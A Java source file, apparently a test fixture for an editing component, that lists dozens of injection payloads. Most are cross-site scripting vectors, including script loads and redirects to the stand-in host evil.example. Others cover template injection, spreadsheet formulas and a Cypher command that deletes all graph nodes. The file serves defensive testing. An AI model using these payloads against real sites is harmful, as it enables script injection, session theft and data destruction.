package org.maillage.editing;

import java.util.List;

/** What somebody may type who wants a page to do more than show it. */
final class Payloads {
  private Payloads() {}

  static final List<String> ALL =
      List.of(
          // Elements
          "<script>alert(1)</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<script src=//evil.example/x.js></script>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img/src=x/onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<iframe src=javascript:alert(1)></iframe>",
          "<object data=javascript:alert(1)></object>",
          "<embed src=//evil.example/x.swf>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>@import '//evil.example/x.css';</style>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<base href=//evil.example/>",
          "<form action=//evil.example><button>Envoyer</button></form>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)></video>",
          "<body onload=alert(1)>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<mark><script>alert(1)</script></mark>",
          // Out of where they stand
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "\" autofocus onfocus=\"alert(1)",
          "' onmouseover='alert(1)",
          "` onclick=alert(1) `",
          "</textarea><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</option></select><script>alert(1)</script>",
          "</code></dd></dl><script>alert(1)</script>",
          "-->\n<script>alert(1)</script>".replace("\n", " "),
          // Addresses
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "javascript://evil.example/%0aalert(1)",
          "data:text/html,<script>alert(1)</script>",
          "vbscript:msgbox(1)",
          "//evil.example",
          "https:\\\\evil.example\\\"onclick=\"alert(1)",
          // Other languages
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "{{ 7 * 7 }}",
          "{% include \"layout\" %}",
          "{{ visitor.account }}",
          "${7 * 7} #{7 * 7}",
          "{0} {1} '{2}'",
          "=HYPERLINK(\"http://evil.example\")",
          "'; MATCH (n) DETACH DELETE n; //",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\u202e)1(trela\u202c",
          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");
}
